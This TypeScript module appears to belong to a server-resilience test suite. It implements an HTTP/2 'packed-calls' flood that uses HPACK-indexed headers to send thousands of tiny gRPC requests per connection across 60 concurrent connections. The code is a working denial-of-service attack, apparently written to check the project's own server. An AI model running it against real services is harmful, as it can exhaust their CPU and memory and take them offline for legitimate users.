import { setTimeout as pause } from "node:timers/promises";
import { frame, preface } from "../../support/hostile-client.ts";
import { rawTo } from "../calls.ts";
import type { ServerAttack, Target } from "../shape.ts";

const fields = [
  [":method", "POST"],
  [":scheme", "http"],
  [":path", "/x"],
  [":authority", "x"],
  ["te", "trailers"],
  ["content-type", "application/grpc"],
  ["grpc-encoding", "gzip"],
] as const;

/** A field that is added to the table of headers (RFC 7541, section 6.2.1). */
const added = ([name, value]: readonly [string, string]): Buffer =>
  Buffer.concat([Buffer.from([0x40, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);

/** Headers that are in the table: a byte each. */
const first = Buffer.concat(fields.map(added));
const rest = Buffer.from(fields.map((_, index) => 0x80 | (62 + fields.length - 1 - index)));

export const packedCalls: ServerAttack = {
  name: "packed-calls",
  claim: "Calls of 16 bytes that are refused at once leave the processor, and the memory, to others.",
  victim: "controller",
  good: ["certificates", "streams"],
  seconds: 6,
  attack: async (target, over) => {
    let sent = 0;
    const floods = Array.from({ length: 60 }, async () => {
      while (!over.aborted) sent += await flood(target, over);
    });
    await Promise.all(floods);
    return { says: `${sent} packed calls of one identity`, happened: sent > 1000 };
  },
};

/** Until it is cut; how many calls it sent. */
async function flood(target: Target, over: AbortSignal): Promise<number> {
  const on = await rawTo(target, { to: "destination", certificate: target.certificates?.mallory });
  on.on("error", () => undefined).resume();
  on.write(preface);
  let id = 1;
  while (!over.aborted && !on.destroyed) {
    const from = id;
    const frames = Array.from({ length: 1000 }, (_, index) => {
      const stream = from + 2 * index;
      return frame("headers", 5, stream, stream === 1 ? first : rest);
    });
    id += 2000;
    if (!on.write(Buffer.concat(frames))) await pause(20);
    await pause(50);
  }
  on.destroy();
  await pause(300);
  return (id - 1) / 2;
}
